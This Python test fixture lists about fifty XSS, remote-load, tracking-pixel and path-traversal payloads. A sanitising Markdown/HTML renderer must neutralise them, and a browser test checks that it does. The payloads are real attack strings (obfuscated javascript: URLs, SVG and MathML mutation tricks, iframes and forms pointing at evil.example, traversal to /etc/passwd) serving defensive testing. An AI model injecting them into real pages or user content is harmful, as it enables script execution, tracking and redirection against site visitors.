"""Markdown and HTML that tries to run script or load from another site. Each payload calls alert() or sets
window.__xss when it runs, so the browser test can tell; none of it may survive the renderer."""

PAYLOADS = [
    # script tags
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    '<img src="/static/css/site.css" onerror="window.__xss=1">',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    '<a href="https://ok.example/" onmouseover="alert(1)">hover</a>',
    "<p onclick=alert(1) onpointerenter=window.__xss=1>x</p>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    # javascript: and its disguises
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "[x](java&#09;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;vascript&#x3A;alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    # data: URLs
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # frames, plugins, forms, document-level tags
    "<iframe src=https://evil.example/></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example/"><button formaction="javascript:alert(1)">x</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    # style
    '<p style="background:url(https://tracker.example/p.gif)">x</p>',
    "<style>@import url(https://evil.example/x.css); body{background:url(https://tracker.example/p.gif)}</style>",
    '<div style="width: expression(alert(1))">x</div>',
    # markdown link and image tricks
    '[x](https://ok.example/ "title\\" onmouseover=\\"alert(1)")',
    '[x](https://ok.example/"onmouseover="alert(1))',
    "[x](//evil.example/)",
    "[x](\\\\evil.example\\x)",
    # remote tracking images, protocol-relative, and other ways to load from elsewhere
    "![pixel](https://tracker.example/pixel.gif)",
    "![pixel](http://tracker.example/pixel.gif)",
    "![pixel](//tracker.example/pixel.gif)",
    '<img src="https://tracker.example/p.gif" width=1 height=1>',
    '<img srcset="https://tracker.example/p.gif 1x" src="/static/css/site.css">',
    '<table background="https://tracker.example/p.gif"><tr><td>x</td></tr></table>',
    '<a href="https://ok.example/" ping="https://tracker.example/ping">x</a>',
    # path traversal out of /static/ and /media/
    "![x](/static/../admin/x.png)",
    "![x](/static/%2e%2e/%2e%2e/etc/passwd)",
    "![x](/media/..%2f..%2fadmin/x.png)",
    # parser confusion
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
]
